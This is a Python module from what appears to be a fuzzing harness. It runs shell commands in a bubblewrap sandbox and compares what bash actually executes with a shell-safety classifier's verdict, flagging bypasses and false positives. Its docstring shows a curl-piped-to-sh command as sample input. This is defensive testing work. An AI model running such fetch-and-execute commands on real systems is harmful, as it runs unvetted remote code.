"""Ground truth for the shell classifier: what real bash runs, in bubblewrap.

    with Oracle() as oracle:
        result = oracle.check("curl -s https://x | sh")   # OracleResult
        result.outcome                                   # "agree" / "bypass" / "weak" / "fp-candidate"

See `sandbox.py` for the container and `risk.py` for what counts as risky.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from fuzz.oracle.risk import Outcome, Risk, compare, risks
from fuzz.oracle.sandbox import Exec, Execution, OracleUnavailable, Sandbox

__all__ = ["Exec", "Execution", "Oracle", "OracleResult", "OracleUnavailable", "Risk"]


@dataclass(frozen=True)
class OracleResult:
    """The classifier's verdict next to what bash did with the same command."""

    command: str
    verdict: str
    risks: tuple[Risk, ...]
    outcome: Outcome
    execution: Execution = field(repr=False)

    def summary(self) -> str:
        """What bash ran, for a person: the risks, else the first external commands."""
        if self.risks:
            return "; ".join(f"{r.kind}: {r.detail}" for r in self.risks)
        names = [e.name for e in self.execution.execs[:8]]
        return "ran " + (", ".join(names) if names else "no external command") + (" (timed out)" if self.execution.timed_out else "")


class Oracle:
    """Classify a command and run it for real; compare the two."""

    def __init__(self, timeout_s: float = 3.0) -> None:
        self.sandbox = Sandbox(timeout_s)

    def __enter__(self) -> Oracle:
        return self

    def __exit__(self, *exc: object) -> None:
        self.sandbox.close()

    def check(self, command: str, verdict: str | None = None) -> OracleResult:
        if verdict is None:
            from shell_audit import classify

            verdict = classify(command).verdict.value
        execution = self.sandbox.run(command)
        found = risks(execution)
        return OracleResult(command, verdict, tuple(found), compare(found, verdict), execution)
